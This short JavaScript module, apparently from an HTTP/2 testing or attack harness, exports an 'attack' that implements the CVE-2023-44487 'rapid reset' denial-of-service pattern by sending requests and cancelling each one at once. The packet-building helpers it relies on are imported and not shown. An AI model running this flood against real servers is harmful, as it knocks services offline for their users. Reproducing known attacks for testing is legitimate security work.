import { reset, unary } from './call.js';
import { resetFlood } from './reset-flood.js';

/** CVE-2023-44487: whole requests, each cancelled at once. */
export const attack = resetFlood('rapid reset', (id) => Buffer.concat([unary(id), reset(id)]));
